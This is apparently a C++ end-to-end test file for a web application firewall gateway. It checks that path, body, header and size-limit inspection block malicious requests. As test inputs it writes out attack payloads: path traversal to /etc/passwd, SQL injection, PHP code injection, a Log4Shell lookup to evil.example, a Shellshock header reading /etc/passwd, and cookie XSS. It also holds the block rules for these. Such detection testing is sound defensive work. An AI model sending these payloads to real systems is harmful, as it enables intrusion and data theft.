// End-to-end tests of what the protected host inspects (docs/gateway.md, "Inspection"): the
// normalised target, request bodies (form, JSON, multipart, chunked) against body rules and
// exploit patterns, every request header, the body limit and its two policies, absolute-form
// targets. The real gateway on loopback, the scripted upstream in this process.
#include <gtest/gtest.h>

#include <string>

#include "tests/macro/gateway/gateway_testkit.hpp"

using gwtest::Conn;
using gwtest::fetch;
using gwtest::get_request;
using gwtest::Response;

namespace {

constexpr const char* kRules = R"({"exploit": {"mode": "block", "headers": true}, "rules": [
  {"id": "block-wp-admin", "action": "block", "when": [{"field": "path", "op": "prefix", "value": "/wp-admin"}]},
  {"id": "raw-percent", "action": "block", "when": [{"field": "path", "op": "contains", "value": "%7e", "match": "raw", "case_insensitive": true}]},
  {"id": "block-query-union", "action": "block", "when": [{"field": "query", "op": "contains", "value": "union select", "case_insensitive": true}]},
  {"id": "block-body-php", "action": "block", "when": [{"field": "body", "op": "contains", "value": "<?php"}]},
  {"id": "block-body-union", "action": "block", "when": [{"field": "body", "op": "regex", "value": "(?i)union\\s+select"}]}]})";

class InspectionE2E : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_.file("rules.json", kRules);
    port_ = gwtest::free_port();
    auto h = [&](const std::string& name, const std::string& extra) {
      return R"({"names": [")" + name + R"("], "upstream": "127.0.0.1:)" +
             std::to_string(upstream_.port()) + R"(", "rules": "rules.json")" + extra + "}";
    };
    dir_.file("gw.json",
              R"({"workers": 1, "listeners": [{"port": )" + std::to_string(port_) +
                  R"(}], "limits": {"client_body_timeout_ms": 700}, "hosts": [)" +
                  h("waf.test", "") + "," + h("small.test", R"(, "body_limit": 64)") + "," +
                  h("prefix.test", R"(, "body_limit": 64, "body_overflow": "scan_prefix")") + "," +
                  h("open.test", R"(, "body_limit": 0)") + "]}");
    gateway_ = std::make_unique<gwtest::Process>(
        std::vector<std::string>{GATEBENCH_GATEWAY_EXE, "--config",
                                 (dir_.path() / "gw.json").string()},
        (dir_.path() / "gateway.log").string());
    ASSERT_TRUE(gwtest::wait_port(port_)) << gateway_->output();
  }
  void TearDown() override {
    if (gateway_) {
      EXPECT_EQ(gateway_->stop(), 0) << gateway_->output();
    }
  }
  Response get(const std::string& target, const std::string& extra = "",
               const std::string& host = "waf.test") {
    return fetch(port_, get_request(host, target, extra));
  }
  Response post(const std::string& content_type, const std::string& body,
                const std::string& host = "waf.test") {
    return fetch(port_,
                 "POST /submit HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: " + content_type +
                     "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
  }

  gwtest::TempDir dir_;
  gwtest::Upstream upstream_;
  std::unique_ptr<gwtest::Process> gateway_;
  int port_ = 0;
};

TEST_F(InspectionE2E, PathRulesSeeTheNormalisedTarget) {
  for (const char* target : {"/wp-admin/", "/wp-%61dmin/", "//wp-admin", "/./wp-admin",
                             "/x/../wp-admin", "/wp-admin%252f", "/\\wp-admin"}) {
    const Response r = get(target);
    EXPECT_EQ(r.status, 403) << target;
    EXPECT_EQ(r.header("x-gatebench-rule"), "block-wp-admin") << target;
  }
  EXPECT_EQ(get("/q?x=1+UNION%20SELECT+2").header("x-gatebench-rule"), "block-query-union");
  // "match": "raw" sees the bytes as sent.
  EXPECT_EQ(get("/~user").status, 200);
  EXPECT_EQ(get("/%7Euser").header("x-gatebench-rule"), "raw-percent");
  // Exploit scanning still sees the "../" that normalisation resolves.
  EXPECT_EQ(get("/static/../../../etc/passwd").header("x-gatebench-rule"),
            "exploit:path_traversal");
  EXPECT_EQ(get("/ok").status, 200);
}

TEST_F(InspectionE2E, InvalidEncodingsGet400) {
  for (const char* target : {"/a%zz", "/a%4", "/a%00b", "/s?q=50%"}) {
    const Response r = get(target);
    EXPECT_EQ(r.status, 400) << target;
  }
  EXPECT_EQ(upstream_.requests().size(), 0u);
}

TEST_F(InspectionE2E, AbsoluteFormIsProxiedAsOriginForm) {
  Response r = get("http://waf.test/wp-admin/");
  EXPECT_EQ(r.status, 403);
  EXPECT_EQ(r.header("x-gatebench-rule"), "block-wp-admin");
  EXPECT_EQ(get("http://WAF.test/fine?a=1").status, 200);
  EXPECT_EQ(get("http://waf.test?b=2").status, 200);
  EXPECT_EQ(get("http://other.test/fine").status, 400);  // names a host other than Host's
  const auto seen = upstream_.requests();
  ASSERT_EQ(seen.size(), 2u);
  EXPECT_EQ(seen[0].head.rfind("GET /fine?a=1 HTTP/1.1\r\n", 0), 0u) << seen[0].head;
  EXPECT_EQ(seen[1].head.rfind("GET /?b=2 HTTP/1.1\r\n", 0), 0u) << seen[1].head;
}

TEST_F(InspectionE2E, BodyRulesFireOnEveryBodyType) {
  Response r = post("application/x-www-form-urlencoded", "name=x&code=%3C%3Fphp+system(1)");
  EXPECT_EQ(r.header("x-gatebench-rule"), "block-body-php");
  r = post("application/x-www-form-urlencoded", "q=1+UNION%2520SELECT+password");
  EXPECT_EQ(r.header("x-gatebench-rule"), "block-body-union");
  r = post("application/json", R"({"comment": {"text": "\u003c?php echo 1; ?>"}})");
  EXPECT_EQ(r.header("x-gatebench-rule"), "block-body-php");
  r = post("application/json", R"({"q": "1 union\tselect x"})");
  EXPECT_EQ(r.header("x-gatebench-rule"), "block-body-union");
  r = post("multipart/form-data; boundary=B1",
           "--B1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n"
           "<?php passthru($x); ?>\r\n--B1--\r\n");
  EXPECT_EQ(r.header("x-gatebench-rule"), "block-body-php");
  // Exploit patterns read decoded body fields: an escaped quote is a quote.
  r = post("application/json", R"({"user": "admin\u0027 or \u00271\u0027=\u00271"})");
  EXPECT_EQ(r.header("x-gatebench-rule"), "exploit:sqli");
  // Chunked bodies are inspected without their framing.
  r = fetch(port_,
            "POST /submit HTTP/1.1\r\nHost: waf.test\r\nTransfer-Encoding: chunked\r\n"
            "Content-Type: text/plain\r\n\r\n3\r\n<?p\r\n2\r\nhp\r\n0\r\n\r\n");
  EXPECT_EQ(r.header("x-gatebench-rule"), "block-body-php");
  // Benign bodies go through whole.
  const std::string benign = R"({"title": "Select a union member", "name": "O'Brien"})";
  r = post("application/json", benign);
  EXPECT_EQ(r.status, 200);
  EXPECT_EQ(post("application/json", "{\"a\": ").status, 400);  // cannot be inspected
  const auto seen = upstream_.requests();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].body, benign);
  // A host with body_limit 0 streams bodies uninspected.
  EXPECT_EQ(post("text/plain", "<?php", "open.test").status, 200);
}

TEST_F(InspectionE2E, BodyLimitRejectsOrScansThePrefix) {
  const std::string big = "a=" + std::string(200, 'x');
  EXPECT_EQ(post("application/x-www-form-urlencoded", big, "small.test").status, 413);
  EXPECT_EQ(post("application/x-www-form-urlencoded", "a=1", "small.test").status, 200);
  // Chunked: the length is unknown up front, so the limit applies as the bytes arrive.
  Response r = fetch(port_,
                     "POST /echo HTTP/1.1\r\nHost: small.test\r\nTransfer-Encoding: chunked\r\n"
                     "\r\nc8\r\n" +
                         std::string(200, 'y') + "\r\n0\r\n\r\n");
  EXPECT_EQ(r.status, 413);
  // scan_prefix: the first 64 bytes are scanned, the whole body is forwarded.
  r = fetch(port_, "POST /echo HTTP/1.1\r\nHost: prefix.test\r\nContent-Length: " +
                       std::to_string(big.size()) + "\r\n\r\n" + big);
  EXPECT_EQ(r.status, 200);
  EXPECT_EQ(r.body, big);
  r = post("text/plain", "<?php " + std::string(200, ' '), "prefix.test");
  EXPECT_EQ(r.header("x-gatebench-rule"), "block-body-php");
  r = post("text/plain", std::string(100, ' ') + "<?php", "prefix.test");
  EXPECT_EQ(r.status, 200);  // past the prefix: forwarded, logged as body-truncated
}

TEST_F(InspectionE2E, TricklingBodyHitsTheTotalDeadline) {
  Conn c(gwtest::connect_to(port_));
  ASSERT_TRUE(c.send("POST /echo HTTP/1.1\r\nHost: waf.test\r\nContent-Length: 100\r\n\r\n"));
  const auto start = std::chrono::steady_clock::now();
  bool open = true;
  // One byte every 150 ms would keep a per-read timeout (700 ms) from ever firing.
  for (int i = 0; i < 40 && open; ++i) {
    open = c.send("x");
    std::this_thread::sleep_for(std::chrono::milliseconds(150));
    pollfd p{c.fd(), POLLIN, 0};
    if (poll(&p, 1, 0) > 0 && !c.fill()) open = false;
  }
  EXPECT_FALSE(open);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(4));
  EXPECT_EQ(upstream_.requests().size(), 0u);
}

TEST_F(InspectionE2E, EveryHeaderIsScanned) {
  EXPECT_EQ(get("/", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n")
                .header("x-gatebench-rule"),
            "exploit:scanner");
  EXPECT_EQ(get("/", "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n").header("x-gatebench-rule"),
            "exploit:log4shell");
  EXPECT_EQ(get("/", "User-Agent: () { :; }; /bin/cat /etc/passwd\r\n").status, 403);
  EXPECT_EQ(get("/", "Cookie: sid=1; pref=%3Cscript%3Ealert(1)%3C/script%3E\r\n").status, 403);
  EXPECT_EQ(get("/", "Referer: https://x.example/?q=1'+or+'1'='1\r\n").status, 403);
  EXPECT_EQ(get("/", "X-Forwarded-For: 1' or '1'='1\r\n").status, 403);
  EXPECT_EQ(get("/",
                "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\r\n"
                "Cookie: id=5; sh=1\r\nReferer: http://203.0.113.9/index.php?page=2\r\n")
                .status,
            200);
}

}  // namespace
